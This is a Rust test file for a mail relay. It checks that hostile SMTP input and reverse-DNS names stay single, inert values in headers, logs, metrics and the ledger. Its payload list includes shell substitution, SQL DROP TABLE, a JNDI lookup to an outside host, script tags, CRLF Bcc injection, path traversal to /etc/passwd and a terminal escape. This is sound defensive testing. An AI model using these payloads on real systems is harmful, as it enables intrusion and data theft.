//! Injection: what a client and its DNS say is written into header fields, the log, the ledger, JSON and metrics, and
//! must stay one value in each. Bad parameters and names are in `dialogs/parameters`, `dialogs/hello`; hostile text in
//! logs, metrics and on the terminal in `telling`.

use regex::bytes::Regex;
use serde_json::Value;

use crate::harness::dns::Dns;
use crate::harness::{Client, Crm, Daemon, Setup};

/// What means something to a shell, a data base, a template, a browser, a mail header or a terminal.
const WORDS: [&str; 14] = [
    "$(id)",
    "`id`",
    "';DROP TABLE leg;--",
    "\\\" OR 1=1 --",
    "{{7*7}}",
    "${jndi:ldap://ext.example/a}",
    "<script>alert(1)</script>",
    "%0d%0aBcc: evil@ext.example",
    "=?utf-8?q?x=0d=0aBcc:_e@v?=",
    "(comment",
    ")close;",
    "../../etc/passwd",
    "\u{202e}elcyc",
    "pointsman_forged 1",
];

/// The header of a message as it was relayed: its fields, each name once more with its unfolded value.
fn fields(mail: &[u8]) -> Vec<(String, String)> {
    let end = mail.windows(4).position(|four| four == b"\r\n\r\n").expect("a header ends");
    let text = String::from_utf8_lossy(&mail[..end]).replace("\r\n\t", " ").replace("\r\n ", " ");
    let split = |line: &str| {
        let (name, value) = line.split_once(':').unwrap_or_else(|| panic!("no field: {line:?} in\n{text}"));
        (name.to_owned(), value.trim().to_owned())
    };
    text.split("\r\n").map(split).collect()
}

fn of<'a>(fields: &'a [(String, String)], name: &str) -> Vec<&'a str> {
    fields.iter().filter(|(n, _)| n.eq_ignore_ascii_case(name)).map(|(_, value)| value.as_str()).collect()
}

/// RFC 5321 §4.4, as much of it as a reader relies on.
fn assert_received(value: &str) {
    let form = r#"(?s-u)^from \S+ \((?:[A-Za-z0-9._-]+ )?\[[0-9A-Fa-f.:IPv]+\]\) by mx\.solarmora\.com \(Pointsman\) with U?[A-Z0-9]+ id [0-9a-z]{13}( for <[^\r\n]+>)?; [A-Z][a-z]{2}, .*$"#;
    assert!(Regex::new(form).unwrap().is_match(value.as_bytes()), "{value}");
}

/// Every line of the log is an object, every line of the metrics a sample, every row of the trace says what was sent.
fn assert_told(daemon: &Daemon, id: &str, sender: &str) {
    for line in daemon.log().lines() {
        let event: Value = serde_json::from_str(line).unwrap_or_else(|e| panic!("{e}: {line}"));
        assert!(event["event"].is_string() && event.get("forged").is_none(), "{line}");
    }
    let sample = Regex::new(r"^(#.*|pointsman_\w+(\{[^}]*\})? [0-9.eE+-]+|)$").unwrap();
    for line in daemon.http("/metrics").1.lines() {
        assert!(sample.is_match(line.as_bytes()) && !line.contains("forged"), "{line}");
    }
    let rows = daemon.rows(&["trace", "--id", id]);
    assert_eq!(rows.len(), 1);
    let shown = rows[0]["sender"].as_str().unwrap();
    assert_eq!(shown.trim_matches(['<', '>']), sender, "the ledger has it letter by letter");
}

#[test]
fn what_a_client_says_stays_one_value_wherever_it_is_written() {
    let (daemon, crm) = Daemon::with_crm();
    for (n, word) in WORDS.into_iter().enumerate() {
        let local = format!("\"{}\"", word.replace('\\', "\\\\").replace('"', "\\\""));
        let sender = format!("{local}@example.org");
        let subject = format!("{word} pointsman");
        let message = format!("From: {word} <x@example.org>\r\nSubject: {subject}\r\nMessage-ID: <{n}@x>\r\n\r\nx\r\n");
        let mut client = Client::connect(daemon.smtp);
        let commands = [
            format!("MAIL FROM:<{sender}> SMTPUTF8 ENVID=a+2B{n}"),
            "RCPT TO:<aide@solarmora.com> ORCPT=rfc822;x+3Cscript+3E@y".to_owned(),
        ];
        let reply = client.try_transaction(&commands, message.as_bytes()).unwrap_or_else(|e| panic!("{word}: {e}"));
        let id = reply.queued_as();
        daemon.wait_for_leg(&format!("{id}.1"), "delivered");
        let mail = crm.mails().pop().unwrap();
        assert_eq!(mail.sender(), sender, "one MAIL with one path: {}", mail.mail);
        assert!(mail.bytes.ends_with(message.as_bytes()), "{word}: the original is untouched");
        let fields = fields(&mail.bytes);
        for (name, wanted) in [("Received", 1), ("Delivered-To", 1), ("X-Original-To", 1), ("Subject", 1), ("Bcc", 0)] {
            assert_eq!(of(&fields, name).len(), wanted, "{word}: {name} in {fields:?}");
        }
        assert_received(of(&fields, "Received")[0]);
        let ours = &mail.bytes[..mail.bytes.len() - message.len()];
        let control = ours.iter().find(|&&octet| octet < 0x20 && !matches!(octet, b'\r' | b'\n' | b'\t'));
        assert_eq!(control, None, "{word}");
        assert_told(&daemon, &id, &sender);
    }
    // The data base has all its tables, and each message a row.
    assert_eq!(daemon.rows(&["trace", "--state", "delivered"]).len(), WORDS.len());
}

/// CVE-2026-40684: the name of an address is somebody's to choose.
#[test]
fn a_ptr_name_that_is_no_host_name_is_written_nowhere() {
    let names = [
        "evil)by.elsewhere(x.example",
        "a\"b.example",
        "a;dkim=pass.example",
        "a\\b.example",
        "a\x1b[31m.example",
        "a\r\nBcc:evil.example",
        "\u{e9}.example",
        "[203.0.113.9]",
    ];
    let mut zone = "203.0.113.9.example A 203.0.113.9\n".to_owned();
    for (n, name) in names.iter().enumerate() {
        // Each leads back to its address: only its form can be what it fails for.
        zone.push_str(&format!("{n}.113.0.203.in-addr.arpa PTR {}\n", name.replace("\r\n", "\u{1}")));
        zone.push_str(&format!("{} A 203.0.113.{n}\n", name.replace("\r\n", "\u{1}")));
    }
    zone.push_str("200.113.0.203.in-addr.arpa PTR good-name.example\ngood-name.example A 203.0.113.200\n");
    let (dns, crm) = (Dns::start(&zone), Crm::start());
    let balanced = "[[listener]]\nname = \"balanced\"\naddress = \"127.0.0.1:0\"\nproxy = [\"127.0.0.0/8\"]\n";
    let daemon = Setup::new(crm.address()).more(&format!("{balanced}{}[auth]\n", dns.config())).start();
    let text = std::fs::read_to_string(daemon.data().join("addresses.json")).unwrap();
    let addresses: Value = serde_json::from_str(&text).unwrap();
    let listener = addresses["listeners"][1].as_str().unwrap().parse().unwrap();
    for n in (0..names.len()).chain([200]) {
        let mut client = Client::try_raw(listener).unwrap();
        client.send(format!("PROXY TCP4 203.0.113.{n} 127.0.0.1 40000 25\r\n").as_bytes()).unwrap();
        assert_eq!(client.reply().code, 220);
        assert_eq!(client.say("EHLO client.example.org").code, 250);
        let id = client.deliver("client@example.org", &["aide@solarmora.com"], b"Subject: x\r\n\r\nx\r\n").queued_as();
        daemon.wait_for_leg(&format!("{id}.1"), "delivered");
        let fields = fields(&crm.mails().pop().unwrap().bytes);
        let (received, results) = (of(&fields, "Received"), of(&fields, "Authentication-Results"));
        assert_eq!((received.len(), results.len(), of(&fields, "Bcc").len()), (1, 1, 0), "{n}: {fields:?}");
        assert_received(received[0]);
        let good = n == 200;
        assert_eq!(received[0].contains("(good-name.example [203.0.113.200])"), good, "{received:?}");
        assert_eq!(results[0].contains("iprev=pass"), good, "{results:?}");
        assert!(!results[0].contains("dkim=pass"), "{results:?}");
        assert_told(&daemon, &id, "client@example.org");
    }
}
